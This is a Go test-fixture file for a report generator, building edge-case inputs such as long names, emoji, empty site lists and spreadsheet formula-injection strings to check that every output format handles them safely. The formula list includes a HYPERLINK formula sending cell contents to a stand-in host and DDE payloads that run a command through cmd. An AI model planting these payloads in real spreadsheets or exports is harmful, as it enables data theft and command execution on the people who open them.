package reporttest

import (
	"fmt"
	"slices"
	"strings"

	"touchstone/internal/evidence"
	"touchstone/reports"
	"touchstone/scoring"
)

// Formulas are texts that a spreadsheet would run, were they written bare.
var Formulas = []string{
	`=HYPERLINK("http://elsewhere.example/?"&A1,"Tea")`, `+1+cmd|'/c calc'!A0`, `-2+3+cmd|'/c calc'!A0`, `@SUM(1+9)*cmd|'/c calc'!A0`,
	"\t=1+1", "\r=1+1", " =1+1", "tea;=1+1", "tea\n=1+1", "＝1+1",
}

// Emoji is a name of joined and coloured pictures.
const Emoji = "👩🏽‍🍳 Tea 🇬🇧 \u200bzero\u200b width"

// Cases gives the waves that every format must bear, by name.
func Cases() map[string]reports.Input {
	cases := map[string]reports.Input{"hostile": Input()}
	add := func(name string, change func(*reports.Input)) {
		in := Input()
		change(&in)
		cases[name] = in
	}
	add("formulas", func(in *reports.Input) {
		in.Title = Formulas[0]
		for i := range in.Sites {
			in.Sites[i].Name, in.Sites[i].Cohort = Formulas[i], Formulas[3+i]
		}
		for i := range in.Observations {
			in.Observations[i].Reason = Formulas[i]
			for j := range in.Observations[i].Facts {
				if f := &in.Observations[i].Facts[j]; f.Unit == evidence.Text && f.Name != "mail.bucket" {
					f.Text = Formulas[j%len(Formulas)]
				}
			}
		}
		in.Replies = []reports.SiteReply{{Site: "hostile", Sent: Start, Answer: Formulas[1]}}
	})
	add("long", func(in *reports.Input) {
		for i := range in.Sites {
			in.Sites[i].Name = fmt.Sprint(i) + strings.Repeat("unbreakable", 1000)
		}
		in.Observations[0].Reason = strings.Repeat("x", 10_000)
	})
	add("emoji", func(in *reports.Input) { in.Sites[0].Name, in.Title = Emoji, Emoji })
	add("one site", func(in *reports.Input) {
		in.Sites, in.Result.Sites = in.Sites[:1], in.Result.Sites[:1]
		in.Observations = slices.DeleteFunc(in.Observations, func(o evidence.Observation) bool { return o.Probe.Site != in.Sites[0].ID })
	})
	add("no reply", func(in *reports.Input) {
		for i := range in.Observations {
			o := &in.Observations[i]
			o.Outcome, o.Facts, o.Evidence = evidence.Silent, nil, nil
		}
		for i := range in.Result.Sites {
			in.Result.Sites[i] = scoring.SiteScore{Site: in.Sites[i].ID, State: scoring.Scored, Grade: "Poor"}
		}
	})
	add("no sites", func(in *reports.Input) {
		in.Sites, in.Observations, in.Result.Sites, in.Scenarios = nil, nil, nil, nil
	})
	return cases
}
